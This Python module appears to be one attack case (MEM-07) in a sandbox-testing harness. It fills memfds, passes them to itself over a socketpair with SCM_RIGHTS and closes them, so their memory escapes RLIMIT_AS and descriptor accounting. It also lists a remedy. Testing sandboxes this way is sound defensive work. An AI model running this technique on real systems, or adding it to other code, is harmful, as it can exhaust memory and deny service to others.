# SPDX-License-Identifier: MIT
"""in-flight.py - a memory bomb that is always in the post.

Goal: more memory than the budget.
Means: a memfd is filled, sent through a socketpair with SCM_RIGHTS, and closed. Until somebody
receives it, the file lives in the socket's queue: its memory belongs to no address space and to no
descriptor. RLIMIT_AS, RLIMIT_NOFILE and whoever reads /proc/PID/fd count nothing.
"""

import os
import socket

from attack import attempting, denied, hold

MIB = 1 << 20
FILES = 24


def run(brief):
    block = b"x" * MIB
    attempting()
    try:
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        for i in range(FILES):
            fd = os.memfd_create(f"letter-{i}")
            for _ in range(16):
                os.write(fd, block)
            socket.send_fds(ours, [b"x"], [fd])
            os.close(fd)
    except OSError as why:
        return denied("memfd by SCM_RIGHTS", why)
    claim = hold()
    theirs.close()
    return claim


ATTACK = {
    "effect": "more memory than the budget, behind no descriptor",
    "means": "memfds sent with SCM_RIGHTS to oneself, then closed",
    "oracle": "usage:memory",
    "id": "MEM-07",
    "attack_id": "T1499.001, CWE-770",
    "remedy": "deny memfd_create; a watch on Shmem; a memory cgroup",
    "run": run,
}
